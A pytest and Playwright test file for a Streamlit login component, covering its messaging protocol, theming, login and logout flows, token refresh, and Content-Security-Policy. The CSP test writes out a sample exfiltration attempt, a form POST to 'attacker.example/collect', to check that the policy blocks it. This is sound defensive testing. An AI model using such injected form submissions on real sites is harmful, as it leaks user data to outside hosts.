"""The packaged component in a real `streamlit run` with the real local provider, driven by
headless Chromium: the v1 protocol, and the login flows with events observed in Python."""

from __future__ import annotations

import contextlib
import json
import os
import socket

import pytest
from playwright.sync_api import expect

from conftest import ROOT, component_frame, component_iframe, free_port, streamlit_server
from idp import CLIENT_ID, running_idp
from login_flow import component, expect_logged_in, expect_logged_out, our_storage, sign_in, wait_closed

APP = ROOT / "tests" / "apps" / "login_app.py"
COMPONENT_PATH = "/component/streamlit_component.login/index.html"
PRIMARY = "#0a7d34"
TEXT = "#123456"
HOSTNAME = "streamlit test"

# In the top page (Streamlit's), record every Streamlit message the component sends, and the
# target origin of each: the component calls `parent.postMessage`, which is this window's. The
# wrapper forwards through a function of the component's own realm, so that the message's
# `source` stays the component's window and Streamlit accepts it. That function is defined by
# this script in the component's frame (init scripts run in every frame): the component's
# Content-Security-Policy refuses `new Function` there.
RECORD_MESSAGES = """
if (window.top !== window) {
  window.__relayPost = function (post, message, target) { return post(message, target); };
}
if (window.top === window) {
  window.__componentMessages = [];
  window.__targetOrigins = [];
  window.addEventListener('message', (e) => {
    if (e.data && e.data.isStreamlitMessage) {
      window.__componentMessages.push(JSON.parse(JSON.stringify(e.data)));
    }
  });
  const post = window.postMessage.bind(window);
  window.postMessage = function (message, target, transfer) {
    if (!(message && message.isStreamlitMessage)) return post(message, target, transfer);
    window.__targetOrigins.push(typeof target === 'string' ? target : String(target && target.targetOrigin));
    const frame = document.querySelector('iframe[title="streamlit_component.login"]');
    return frame.contentWindow.__relayPost(post, message, target);
  };
}
"""


@contextlib.contextmanager
def login_app(ttls: dict[str, int] | None = None, **args):
    """Streamlit running the login test app against a fresh provider (token lifetimes `ttls`);
    yields (app URL, issuer)."""
    idp_port = free_port()
    issuer = f"http://localhost:{idp_port}"
    config = {"issuer": issuer, "client_id": CLIENT_ID, "hostname": HOSTNAME, **args}
    env = dict(os.environ, LOGIN_ARGS=json.dumps(config))
    theme = ["--theme.base=light", f"--theme.primaryColor={PRIMARY}", f"--theme.textColor={TEXT}"]
    with streamlit_server(APP, *theme, env=env) as url:
        with running_idp([url + COMPONENT_PATH], port=idp_port, **(ttls or {})):
            yield url, issuer


@pytest.fixture(scope="module")
def app_url():
    with login_app() as (url, _issuer):
        yield url


@pytest.fixture
def app(page, app_url):
    page.add_init_script(RECORD_MESSAGES)
    page.goto(app_url)
    expect(page.get_by_text("Login test app")).to_be_visible(timeout=30_000)
    return page


def rgb(hex_colour: str) -> str:
    r, g, b = (int(hex_colour[i : i + 2], 16) for i in (1, 3, 5))
    return f"rgb({r}, {g}, {b})"


def test_component_announces_protocol_v1_to_its_own_origin(app, app_url):
    app.wait_for_function("window.__componentMessages.some(m => m.type === 'streamlit:componentReady')")
    messages = app.evaluate("window.__componentMessages")
    ready = [m for m in messages if m["type"] == "streamlit:componentReady"]
    assert ready == [{"isStreamlitMessage": True, "type": "streamlit:componentReady", "apiVersion": 1}]
    app.wait_for_function("window.__componentMessages.some(m => m.type === 'streamlit:setComponentValue')")
    targets = app.evaluate("window.__targetOrigins")
    assert targets, "every message names a target origin"
    assert set(targets) == {app_url}, "messages go to Streamlit's origin, never '*'"


def test_the_first_status_reaches_python_and_the_frame_is_one_line(app):
    expect_logged_out(app, HOSTNAME, timeout=30_000)
    expect(app.get_by_text("status Logged out (start) user None")).to_be_visible(timeout=30_000)
    expect(app.get_by_text("event onStatusUpdate from login")).to_be_visible()
    app.wait_for_function(
        "document.querySelector('iframe[title=\"streamlit_component.login\"]').getBoundingClientRect().height === 25"
    )


def test_the_line_is_set_in_the_apps_own_font(app):
    # Streamlit loads its web font ("Source Sans") in the app's page only; the component copies
    # it, so its text measures as the app's own text does, not as the system's sans-serif.
    expect_logged_out(app, HOSTNAME, timeout=30_000)
    frame = component(app)
    frame.wait_for_function("[...document.fonts].some(f => f.status === 'loaded')")
    measure = """(text) => {
        const span = document.createElement('span');
        span.style.cssText = 'font-family: ' + getComputedStyle(document.body).fontFamily + '; font-size: 14px';
        span.textContent = text;
        document.body.appendChild(span);
        const width = span.getBoundingClientRect().width;
        span.remove();
        return [getComputedStyle(document.body).fontFamily, width];
    }"""
    text = "Click to login... host test (logged out)"
    family, width = frame.evaluate(measure, text)
    assert family.startswith('"Source Sans"'), family
    assert [family, width] == app.evaluate(measure, text)
    system = frame.evaluate("(t) => { const s = document.createElement('span'); s.style.cssText = 'font: 14px sans-serif';"
                            " s.textContent = t; document.body.appendChild(s); const w = s.getBoundingClientRect().width;"
                            " s.remove(); return w; }", text)
    assert system != width, "the system font measures otherwise: the check can fail"


def test_the_theme_colours_are_applied(app):
    frame = component_frame(app)
    expect_logged_out(app, HOSTNAME, timeout=30_000)
    expect(frame.locator(".sc-text")).to_have_css("color", rgb(TEXT))
    expect(frame.get_by_role("button", name="Click to login...")).to_have_css("border-top-color", rgb(PRIMARY))
    root_var = frame.locator("html").evaluate("h => h.style.getPropertyValue('--st-primary-color')")
    assert root_var == PRIMARY


def test_login_reload_second_tab_and_logout_in_streamlit(app, app_url):
    expect_logged_out(app, HOSTNAME, timeout=30_000)
    sign_in(app)
    expect_logged_in(app)
    expect(app.get_by_text("status Logged in (login) user Alice Example")).to_be_visible(timeout=30_000)
    app.reload()
    expect_logged_in(app, timeout=30_000)
    expect(app.get_by_text("status Logged in (start) user Alice Example")).to_be_visible(timeout=30_000)
    other = app.context.new_page()
    other.goto(app_url)
    expect_logged_in(other, timeout=30_000)
    component(other).get_by_role("button", name="Click to logout...").click()
    expect_logged_out(app, HOSTNAME, timeout=5_000)
    expect(app.get_by_text("status Logged out (changed) user None")).to_be_visible(timeout=30_000)
    expect(other.get_by_text("status Logged out (logout) user None")).to_be_visible(timeout=30_000)
    assert our_storage(app) == {}


def test_a_provider_that_is_down_is_reported_to_python(page):
    # Nothing listens at the issuer: discovery fails in the popup.
    issuer = f"http://localhost:{free_port()}"
    env = dict(os.environ, LOGIN_ARGS=json.dumps({"issuer": issuer, "client_id": CLIENT_ID, "hostname": HOSTNAME}))
    with streamlit_server(APP, env=env) as url:
        page.goto(url)
        expect_logged_out(page, HOSTNAME, timeout=30_000)
        with page.expect_popup() as popup_info:
            component(page).get_by_role("button", name="Click to login...").click()
        wait_closed(popup_info.value, 15)
        message = "error discovery_failed: discovery failed: the provider cannot be reached"
        expect(page.get_by_text(message)).to_be_visible(timeout=30_000)
        expect_logged_out(page, HOSTNAME)


def test_short_tokens_refresh_then_expire_when_refresh_is_off(page):
    with login_app(heartbeat_s=1, ttls={"access_token": 6, "id_token": 6}) as (url, _issuer):
        page.goto(url)
        expect_logged_out(page, HOSTNAME, timeout=30_000)
        sign_in(page)
        expect(page.get_by_text("status Logged in (login) user Alice Example")).to_be_visible(timeout=30_000)
        expect(page.get_by_text("status Logged in (refresh) user Alice Example")).to_be_visible(timeout=30_000)
    with login_app(heartbeat_s=1, refresh=False, ttls={"access_token": 6, "id_token": 6}) as (url, _issuer):
        page.goto(url)
        expect_logged_out(page, HOSTNAME, timeout=30_000)
        sign_in(page)
        expect(page.get_by_text("status Logged in (login) user Alice Example")).to_be_visible(timeout=30_000)
        expect(page.get_by_text("status Logged out (expired) user None")).to_be_visible(timeout=30_000)
        expect_logged_out(page, HOSTNAME)


def test_the_page_has_a_content_security_policy_that_refuses_injected_scripts(app):
    # Every flow of the suite runs under the policy; here a script injected into the page is
    # refused, and the policy has the directives of the checklist.
    frame = component(app)
    expect(frame.get_by_role("button")).to_be_visible(timeout=30_000)
    policy = frame.evaluate(
        "() => document.querySelector('meta[http-equiv=\"Content-Security-Policy\"]').content")
    for directive in ("default-src 'none'", "script-src 'self' 'wasm-unsafe-eval' 'sha256-", "base-uri 'none'",
                      "object-src 'none'", "form-action 'self' https: http://localhost:* http://127.0.0.1:*"):
        assert directive in policy, policy
    violation = frame.evaluate("""() => new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective));
        const script = document.createElement('script');
        script.textContent = 'window.injected = true';
        document.body.appendChild(script);
        setTimeout(() => resolve('no violation'), 2000);
    })""")
    assert violation == "script-src-elem"
    # A form may go only where a provider may be (the logout POST): not to plain http elsewhere.
    violation = frame.evaluate("""() => new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective));
        const form = document.createElement('form');
        form.method = 'post';
        form.action = 'http://attacker.example/collect';
        form.target = '_blank';
        document.body.appendChild(form);
        form.submit();
        setTimeout(() => resolve('no violation'), 2000);
    })""")
    assert violation == "form-action"
    assert frame.evaluate("() => window.injected") is None


def test_the_component_from_a_dev_server_of_another_origin_renders_and_logs_in(page):
    # The development loop (README): the development build served apart (as `make serve`
    # does), Streamlit on port 8501 told by STREAMLIT_COMPONENT_DEV_URL. The app's page is then
    # of another origin, which the component must not touch (its fonts, its address).
    from conftest import DEVHOST, static_server

    with socket.socket() as probe:
        if probe.connect_ex(("127.0.0.1", 8501)) == 0:
            pytest.skip("port 8501, which development builds trust, is in use")
    idp_port = free_port()
    issuer = f"http://localhost:{idp_port}"
    with static_server(DEVHOST) as dev_url:
        config = {"issuer": issuer, "client_id": CLIENT_ID, "hostname": HOSTNAME}
        env = dict(os.environ, STREAMLIT_COMPONENT_DEV_URL=dev_url, LOGIN_ARGS=json.dumps(config))
        with streamlit_server(APP, env=env, port=8501) as url, running_idp([dev_url + "/"], port=idp_port):
            page.goto(url)
            expect_logged_out(page, HOSTNAME, timeout=30_000)
            sign_in(page)
            expect_logged_in(page)
